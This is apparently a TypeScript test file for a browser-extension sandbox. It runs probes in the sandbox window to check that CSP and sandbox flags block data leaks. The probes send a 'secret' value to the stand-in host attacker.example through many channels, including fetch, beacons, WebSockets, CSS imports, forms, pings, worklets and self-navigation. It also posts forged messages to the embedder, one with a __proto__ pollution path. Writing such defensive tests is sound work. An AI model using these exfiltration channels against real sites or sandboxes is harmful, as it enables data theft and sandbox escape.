// Probes run in the sandbox page's own window over CDP: the realm remixlet code never gets (it runs in a
// worker), tried anyway to show what the sandbox page's CSP and sandbox flags stop by themselves. WebRTC
// and resource hints (preconnect, dns-prefetch) are left out on purpose: no CSP directive Chromium
// enforces covers them, which is why remixlet code has no window (see leak-channels.spec.ts).

/** Evaluated in the sandbox window; resolves to { id: outcome } once every probe settled. */
export const WINDOW_PROBES = String.raw`(async () => {
  const out = {};
  const web = (path) => 'http://attacker.example/window-' + path + '?d=secret';
  const tls = (path) => 'https://leaking.via/window-' + path;
  const probe = async (id, fn) => {
    try {
      const v = await Promise.race([Promise.resolve().then(fn), new Promise((r) => setTimeout(() => r('pending'), 1500))]);
      out[id] = 'ran: ' + String(v).slice(0, 200);
    } catch (e) { out[id] = 'threw: ' + (e && e.name) + ': ' + String(e && e.message).slice(0, 200); }
  };
  const add = (html) => { const t = document.createElement('template'); t.innerHTML = html; document.body.append(t.content); };
  const loaded = (el) => new Promise((resolve) => { el.onload = () => resolve('loaded'); el.onerror = () => resolve('error'); });

  await probe('eval', () => eval('1 + 1'));
  await probe('Function', () => Function('return 1')());
  await probe('string timer', () => new Promise((resolve) => { window.stringTimerRan = false; setTimeout('window.stringTimerRan = true', 0); setTimeout(() => resolve('ran=' + window.stringTimerRan), 200); }));
  await probe('inline script', () => { const s = document.createElement('script'); s.textContent = 'window.inlineRan = true'; document.body.append(s); return 'ran=' + (window.inlineRan === true); });
  await probe('blob: script', () => { const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob(['window.blobRan = true'])); document.body.append(s); return loaded(s).then((r) => r + ' ran=' + (window.blobRan === true)); });
  await probe('remote script', () => { const s = document.createElement('script'); s.src = web('script.js'); document.body.append(s); return loaded(s); });
  await probe('blob: worker runs, and cannot fetch', () => new Promise((resolve) => {
    const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + web('blob-worker') + "').then(() => postMessage('fetched'), (e) => postMessage('worker ran; fetch: ' + e.name))"])));
    w.onmessage = (e) => resolve(e.data);
  }));
  await probe('data: worker', () => new Promise((resolve) => { const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = () => resolve('worker ran'); w.onerror = () => resolve('error'); }));
  await probe('fetch', () => fetch(web('fetch')).then(() => 'fetched'));
  await probe('XMLHttpRequest', () => new Promise((resolve) => { const x = new XMLHttpRequest(); x.open('GET', web('xhr')); x.onerror = () => resolve('error'); x.onload = () => resolve('loaded'); x.send(); }));
  await probe('sendBeacon', () => navigator.sendBeacon(web('beacon'), 'secret'));
  await probe('WebSocket', () => new Promise((resolve) => { const ws = new WebSocket('ws://attacker.example/window-ws'); ws.onerror = () => resolve('error'); ws.onopen = () => resolve('open'); }));
  await probe('EventSource', () => new Promise((resolve) => { const es = new EventSource(web('es')); es.onerror = () => { es.close(); resolve('error'); }; }));
  await probe('image', () => { const i = new Image(); i.src = web('image'); return loaded(i); });
  await probe('https image', () => { const i = new Image(); i.src = tls('image'); return loaded(i); });
  await probe('style element with @import, url() and @font-face', () => { add('<style>@import "' + web('import.css') + '"; body { background: url(' + web('bg') + ') } @font-face { font-family: x; src: url(' + web('font') + ') } body { font-family: x }</style>'); return document.fonts.ready.then(() => 'styled'); });
  await probe('inline style attribute', () => { document.body.setAttribute('style', 'background-image: url(' + web('inline-bg') + ')'); return getComputedStyle(document.body).backgroundImage; });
  await probe('constructed stylesheet', () => { const s = new CSSStyleSheet(); s.replaceSync('html { background: url(' + web('constructed-bg') + ') }'); document.adoptedStyleSheets = [s]; return getComputedStyle(document.documentElement).backgroundImage; });
  await probe('FontFace', () => new FontFace('y', 'url(' + web('fontface') + ')').load());
  await probe('audio', () => { const a = new Audio(web('audio')); return loaded(a); });
  await probe('video poster', () => { add('<video poster="' + web('poster') + '"></video>'); return 'added'; });
  await probe('link icon, prefetch, preload, modulepreload', () => {
    add(['icon', 'prefetch', 'preload'].map((rel) => '<link rel="' + rel + '" as="image" href="' + web('link-' + rel) + '">').join('') + '<link rel="modulepreload" href="' + web('link-modulepreload.js') + '">');
    return 'added';
  });
  await probe('speculation rules', () => { const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [web('speculation')] }] }); document.body.append(s); return 'added'; });
  await probe('import map and import()', () => { const s = document.createElement('script'); s.type = 'importmap'; s.textContent = JSON.stringify({ imports: { x: web('mapped.js') } }); document.body.append(s); return import('x'); });
  await probe('meta CSP report-uri', () => { const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = "img-src 'none'; report-uri " + web('report'); document.head.append(m); const i = new Image(); i.src = web('report-trigger'); return 'added'; });
  await probe('child frame', () => { const f = document.createElement('iframe'); f.src = web('frame'); document.body.append(f); return loaded(f); });
  await probe('form GET and POST', () => {
    add('<form id="fg" action="' + web('form-get') + '"><input name="d" value="secret"></form><form id="fp" method="post" target="_blank" action="' + web('form-post') + '"><input name="d" value="secret"></form>');
    document.getElementById('fp').submit();
    document.getElementById('fg').requestSubmit();
    return 'submitted';
  });
  await probe('a ping', () => { add('<a id="pinger" href="#here" ping="' + web('ping') + '">x</a>'); document.getElementById('pinger').click(); return 'clicked'; });
  await probe('window.open', () => String(window.open(web('popup'))));
  await probe('top navigation', () => { top.location = web('top'); return 'assigned'; });
  await probe('paint worklet', () => (window.CSS && CSS.paintWorklet ? CSS.paintWorklet.addModule(web('paint.js')) : 'no paintWorklet here'));
  await probe('audio worklet', () => new AudioContext().audioWorklet.addModule(web('audio.js')));
  await probe('PaymentRequest', () => new PaymentRequest([{ supportedMethods: web('pay') }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment());
  await probe('FedCM', () => navigator.credentials.get({ identity: { providers: [{ configURL: web('fedcm.json'), clientId: 'x' }] } }));
  await probe('download', () => { const a = document.createElement('a'); a.download = 'x.txt'; a.href = URL.createObjectURL(new Blob(['secret'])); document.body.append(a); a.click(); return 'clicked'; });
  await probe('document.domain', () => { document.domain = 'example.com'; return document.domain; });
  await probe('localStorage', () => localStorage.setItem('x', 'secret'));
  await probe('postMessage to the embedder, forged shapes', () => {
    parent.postMessage({ type: 'create', sandboxId: 'sforged000000', token: 'x'.repeat(43), remixletId: 'forged00', script: 'rmx.log(1)', page: { url: 'https://x/', title: '' }, apiVersion: 1, extensionVersion: '0' }, '*');
    parent.postMessage({ kind: 'remixlet-boot', script: 'rmx.log(1)', page: { url: 'https://x/', title: '' }, apiVersion: 1, extensionVersion: '0' }, '*');
    parent.postMessage({ id: 'x', type: 'SET', path: ['__proto__', 'remixletPolluted'], value: { type: 'RAW', value: 1 } }, '*');
    return 'posted';
  });
  await new Promise((r) => setTimeout(r, 500));
  return out;
})()`;

/** Last, because it ends the frame: the sandbox navigates itself, carrying data in window.name. */
export const SELF_NAVIGATION = String.raw`(() => { window.name = 'secret'; location.href = 'http://attacker.example/window-navigation?d=secret'; return 'assigned'; })()`;
